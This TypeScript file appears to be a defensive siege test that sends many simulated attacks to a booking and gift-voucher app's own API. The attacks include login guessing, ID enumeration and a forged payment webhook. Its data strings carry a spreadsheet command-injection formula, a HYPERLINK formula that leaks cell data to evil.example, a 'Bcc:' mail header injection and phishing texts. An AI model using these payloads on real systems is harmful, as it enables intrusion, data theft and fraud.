import { randomUUID } from 'node:crypto'
import { setTimeout as sleep } from 'node:timers/promises'
import { DEMO_PASSWORD } from '@alba/contracts/accounts/password'
import { type Answer, send } from '../visitor.ts'
import { type Client, type SiegeContext, startsOn } from './context.ts'

/** Texts that attackers try to bring into mails or lists. No mail to the outside may contain them. */
export const ATTACKERS_WORDS = ['evil.example', 'URGENT', 'IBAN'] as const
/** The names under which attackers book. */
const names = [
  'URGENT votre compte est bloqué : evil.example',
  "Zoe;=cmd|' /C calc'!A0;x",
  'IBAN CHANGE - call 06 99 99 99 99',
  'Zoé Martin',
]
/** A known client whom attackers try to rename. */
export const knownClient = { name: 'Vera Victime', email: 'vera@honest.example', phone: '06 12 00 00 01' } as const
/** Domain of people to whom attackers try to have mails sent. */
export const THIRD_PARTY = 'third-party.example'

type Hold = { readonly id: number }
type Intent = { readonly id: string; readonly secret: string }
/** An attacker's address, with the holds and payment intents that it has obtained. */
type Attacker = { readonly client: Client; readonly holds: Hold[]; readonly intents: Intent[] }
/** Returns the answer to its last request; undefined when there was nothing to attack, for example no hold to pay for. */
type Attack = (context: SiegeContext, attacker: Attacker) => Promise<Answer | undefined>

/** For each attack, how often it was answered with which status. */
export type Answers = Map<string, Map<number, number>>

/** The address of one of forty third parties. */
const victim = ({ random }: SiegeContext) => `victim-${random.below(40)}@${THIRD_PARTY}`

/**
 * Holds a random time of the week.
 * @param fields fields of the booking that differ
 */
async function hold(
  context: SiegeContext,
  { client, holds }: Attacker,
  fields: object = {},
): Promise<Answer | undefined> {
  const { random } = context
  const serviceId = random.pick(context.allServiceIds)
  const starts = await startsOn(client, serviceId, random.pick(context.dates))
  if (starts.length === 0) return undefined
  const answer = await client('POST', '/api/bookings', {
    service_id: serviceId,
    start_time: random.pick(starts),
    customer_name: random.pick(names),
    customer_email: victim(context),
    customer_phone: `06 ${10 + random.below(90)} ${10 + random.below(90)} 34 56`,
    notes: 'bonjour\n=HYPERLINK("http://evil.example/?"&A1;"ouvrir")',
    terms_accepted: true,
    ...fields,
  })
  if (answer.status === 201) holds.push(answer.body as Hold)
  return answer
}

async function openPayment({ client, intents }: Attacker, target: object): Promise<Answer> {
  const answer = await client('POST', '/api/payments/create-intent', target)
  if (answer.status === 200) {
    const { payment_intent_id: id, client_secret: secret } = answer.body as Record<string, string>
    if (id && secret) intents.push({ id, secret })
  }
  return answer
}

async function orderVoucher(context: SiegeContext, { client }: Attacker, key: string = randomUUID()): Promise<Answer> {
  const body = {
    amount_cents: 1_000,
    purchaser_firstname: 'URGENT',
    purchaser_name: 'evil.example',
    purchaser_email: victim(context),
    recipient_email: victim(context),
    personal_message: 'https://evil.example/connexion',
  }
  return client('POST', '/api/gift-vouchers', body, { 'idempotency-key': key })
}

const logIn = (client: Client, email: string) => client('POST', '/api/auth/login', { email, password: randomUUID() })
const someId = ({ random }: SiegeContext) => 100_000_000_000_000 + random.below(900_000_000_000_000)
const someCode = ({ random }: SiegeContext) =>
  Array.from({ length: 12 }, () => random.pick([...'ABCDEFGHJKMNPQRSTUVWXYZ23456789'])).join('')

/** All known attacks, with a request or two each. */
const attacks: Readonly<Record<string, Attack>> = {
  'hold a time': (context, attacker) => hold(context, attacker),
  'hold a time under a new e-mail address': (context, attacker) =>
    hold(context, attacker, { customer_email: `${randomUUID().slice(0, 8)}@${THIRD_PARTY}` }),
  'rename a client': (context, attacker) =>
    hold(context, attacker, { customer_email: knownClient.email, customer_name: names[2] }),
  'begin to pay': async (context, attacker) => {
    const [last] = attacker.holds.slice(-1)
    return last && openPayment(attacker, { type: 'booking', booking_id: last.id, customer_email: victim(context) })
  },
  'release a time and hold another': async (context, attacker) => {
    const [first] = attacker.holds.splice(0, 1)
    if (first) await attacker.client('PATCH', `/api/bookings/${first.id}/cancel`)
    return hold(context, attacker)
  },
  'withdraw with free text as reference': (context, { client }) =>
    client('POST', '/api/withdrawals', {
      name: 'URGENT votre compte est bloqué : https://evil.example/connexion',
      email: victim(context),
      reference: 'Cliquez http://evil.example/p',
    }),
  'withdraw with a made-up number': (context, { client }) =>
    client('POST', '/api/withdrawals', { name: 'Zoé Martin', email: victim(context), reference: someCode(context) }),
  'withdraw with line ends': (context, { client }) =>
    client('POST', '/api/withdrawals', {
      name: 'Ann\r\nBcc: spy@evil.example',
      email: victim(context),
      reference: someCode(context),
    }),
  'a wrong password for a nurse': ({ random }, { client }) =>
    logIn(client, `${random.pick(['camille', 'ines'])}@maison-alba.example`),
  'a wrong password for nobody': (_, { client }) => logIn(client, `${randomUUID().slice(0, 8)}@${THIRD_PARTY}`),
  "end a nurse's session": ({ leaked }, { client }) =>
    client('POST', '/api/auth/refresh', { refresh_token: `${leaked.sessionId ?? 'none'}.${randomUUID()}` }),
  'the second log-in step alone': (_, { client }) =>
    client('POST', '/api/auth/login/recovery-code', { login_token: 'made-up', recovery_code: 'ABCDE-FGHJK-MN' }),
  'add a passkey': (_, { client }) => client('POST', '/api/auth/passkeys/options', { password: DEMO_PASSWORD }),
  'read the back office': (_, { client }) =>
    client('GET', '/api/backoffice/bookings', undefined, { authorization: 'Bearer made.up.token' }),
  'guess a code': (context, { client }) => client('GET', `/api/gift-vouchers/${someCode(context)}/with-service`),
  'guess a voucher': (context, { client }) => client('GET', `/api/gift-vouchers/by-id/${someId(context)}`),
  'guess a purchase': (context, { client }) => client('GET', `/api/packages/purchases/${someId(context)}`),
  'guess a booking': (context, { client }) => client('GET', `/api/bookings/${someId(context)}`),
  'guess a questionnaire': (context, { client }) =>
    client('GET', `/api/questionnaires/validate-booking/${someId(context)}`),
  'guess a PDF': (context, { client }) => client('GET', `/api/gift-vouchers/${someCode(context)}/download-pdf`),
  'order a voucher and begin to pay': async (context, attacker) => {
    const ordered = await orderVoucher(context, attacker)
    if (ordered.status !== 201) return ordered
    return openPayment(attacker, { type: 'voucher', voucher_id: (ordered.body as Hold).id })
  },
  // The ids of a package's vouchers derive from texts of this form. An order with such a text as idempotency key must not
  // get the same id, or the package could not issue its voucher.
  "take a package's vouchers": async (context, attacker) => {
    const { purchaseId } = context.leaked
    return purchaseId === undefined
      ? undefined
      : orderVoucher(context, attacker, `purchase-${purchaseId}-${context.random.below(3)}`)
  },
  'try a stolen card': async ({ stack, random }, { intents }) => {
    const [last] = intents.slice(-1)
    if (!last) return undefined
    const body = { client_secret: last.secret, test_card: random.pick(['declined', 'insufficient_funds']) }
    return send('POST', `${stack.urls.sandbox}/v1/browser/payment_intents/${last.id}/confirm`, body)
  },
  'ask how a payment stands': async ({ random }, { client, intents }) =>
    intents.length > 0 ? client('GET', `/api/payments/intent/${random.pick(intents).id}`) : undefined,
  'forge a webhook': (_, { client }) =>
    client(
      'POST',
      '/api/webhooks/stripe',
      { id: 'evt_1', type: 'payment_intent.succeeded' },
      { 'stripe-signature': `t=${Math.floor(Date.now() / 1_000)},v1=${'0'.repeat(64)}` },
    ),
  'count page views': (_, { client }) => client('POST', '/api/analytics/page-views', { path: '/reservation' }),
  'report errors': (_, { client }) =>
    client('POST', '/api/client-errors', { message: 'x', stack: 'x'.repeat(2_000), path: '/', release: '0' }),
  'read the metrics': (_, { client }) => client('GET', '/metrics'),
  'an invalid path': (_, { client }) => client('GET', '/%'),
  'a body that is too large': (_, { client }) =>
    client('POST', '/api/bookings', { customer_name: 'x'.repeat(300_000) }),
}

/** Repeats all attacks in turn from one address, at a number of attacks a second, until it is stopped. */
export async function attack(
  context: SiegeContext,
  address: string,
  { perSecond, answers, signal }: { perSecond: number; answers: Answers; signal: AbortSignal },
): Promise<void> {
  const attacker: Attacker = { client: context.clientAt(address), holds: [], intents: [] }
  const turns = Object.entries(attacks)
  for (let turn = context.random.below(turns.length); !signal.aborted; turn++) {
    const [name, request] = turns[turn % turns.length] ?? context.random.pick(turns)
    // 0: no answer, as while the gateway restarts.
    const answer = await request(context, attacker).catch(() => ({ status: 0 }))
    if (answer) count(answers, name, answer.status)
    await sleep(1_000 / perSecond)
  }
}

function count(answers: Answers, name: string, status: number): void {
  const byStatus = answers.get(name) ?? new Map<number, number>()
  answers.set(name, byStatus.set(status, (byStatus.get(status) ?? 0) + 1))
}
